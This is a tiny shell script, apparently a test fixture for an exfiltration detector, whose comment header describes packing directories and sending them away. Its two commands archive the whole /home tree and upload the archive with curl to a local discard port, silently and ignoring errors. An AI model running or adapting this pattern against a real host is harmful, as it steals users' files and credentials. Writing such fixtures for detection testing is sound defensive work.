# what: directories are packed and sent away
# rules: Archive made and sent away
# needs: curl
tar czf /tmp/d.tgz /home 2>/dev/null
curl -s -m 1 -T /tmp/d.tgz http://127.0.0.1:9/ || true
